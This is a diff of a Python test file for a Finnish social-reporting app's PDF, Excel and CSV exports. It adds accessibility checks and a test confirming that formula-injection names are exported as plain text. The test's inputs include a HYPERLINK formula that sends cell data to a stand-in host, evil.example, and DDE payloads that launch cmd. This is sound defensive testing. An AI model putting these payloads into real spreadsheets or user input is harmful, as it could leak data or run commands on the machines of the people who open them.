@@ -1,6 +1,7 @@
 """Compilations: content from the database, the review workflow, the frozen snapshot, exports and reminders."""
 from __future__ import annotations
 
+import csv
 import errno
 import io
 import json
@@ -21,6 +22,7 @@ from app.workflow.filing import ReportInput, file_report
 from app.workflow.operations import perform
 from app.workflow.periods import Period
 from app.workflow.transitions import Action
+from helpers import assert_accessible_pdf
 
 H1 = Period(2026, 1)
 NOW = datetime(2026, 7, 15, 9, tzinfo=timezone.utc)
@@ -158,12 +160,16 @@ def test_refusals(app_ctx, org, period_data):
 
 def test_pdf_excel_and_csv_of_a_draft_and_of_one_municipality(app_ctx, org, period_data):
     content = compilations.draft_content(H1, now=NOW)
-    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(compilation_export.render_pdf(content))).pages)
+    pdf = compilation_export.render_pdf(content)
+    assert_accessible_pdf(pdf, "Sosiaalisen raportoinnin puolivuotiskooste 1.1.–30.6.2026")
+    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
     assert "Sosiaalisen raportoinnin puolivuotiskooste" in text and "LUONNOS" in text
     assert "1.1.–30.6.2026" in text and "Siilinjärvi" in text and "Sivu 2 /" in text
     assert "Raili" not in text
 
-    part = PdfReader(io.BytesIO(compilation_export.render_pdf(content, "749")))
+    part_pdf = compilation_export.render_pdf(content, "749")
+    assert_accessible_pdf(part_pdf, "Sosiaalisen raportoinnin puolivuotiskooste 1.1.–30.6.2026 – Siilinjärvi")
+    part = PdfReader(io.BytesIO(part_pdf))
     part_text = "\n".join(page.extract_text() for page in part.pages)
     assert "Kuljetukset puuttuvat." in part_text and "Vuokrat ylittävät asumistuen rajat." not in part_text
 
@@ -173,6 +179,36 @@ def test_pdf_excel_and_csv_of_a_draft_and_of_one_municipality(app_ctx, org, peri
     assert themes["housing"] == 2
     lines = compilation_export.render_csv(content, "297").decode("utf-8-sig").splitlines()
     assert "2026-H1;297;nature;negative;Kielteinen ilmiö;1;0,5000;1;0;0,0" in lines
+
+
+def test_names_that_a_spreadsheet_would_run_are_text_in_excel_and_csv(app_ctx, org, period_data):
+    """Unit, forum and theme names come from administrators' input (or an imported file): never formulas."""
+    link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
+    org["unit"].name = link
+    org["forum"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.scalar(sa.select(Theme).where(Theme.code == "housing")).label_fi = "+cmd|' /C calc'!A0"
+    perform(Action.START_HANDLING, period_data["named"], org["handler"], now=at(2, 2))
+    perform(Action.TAKE_FORWARD, period_data["named"], org["handler"], forum=org["forum"], note="Eteenpäin.",
+            now=at(2, 3))
+    db.session.commit()
+    content = compilations.draft_content(H1, now=NOW)
+
+    book = openpyxl.load_workbook(io.BytesIO(compilation_export.render_xlsx(content)))
+    cells = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    for text in (link, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"):
+        assert cells[text].data_type == "s", text
+    assert not [cell for cell in cells.values() if cell.data_type == "f"]
+    themes = {row[0]: row[2] for row in book["Teemat"].iter_rows(min_row=2, values_only=True)}
+    assert themes["housing"] == 2
+
+    rows = list(csv.reader(io.StringIO(compilation_export.render_csv(content).decode("utf-8-sig")), delimiter=";"))
+    labels = {(row[2], row[3]): row[4] for row in rows[1:]}
+    assert labels[("unit", "U-KUO")] == "'" + link
+    assert labels[("forum", "RSTR")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert labels[("themes", "housing")] == "'+cmd|' /C calc'!A0"
+    assert not [row for row in rows if any(cell.startswith(("=", "@", "+")) for cell in row)]
+    assert [row[5] for row in rows[1:] if row[2] == "themes" and row[3] == "housing"] == ["2"]
 
 
 def test_a_failed_write_leaves_no_file_and_keeps_the_old_one(app_ctx, tmp_path):
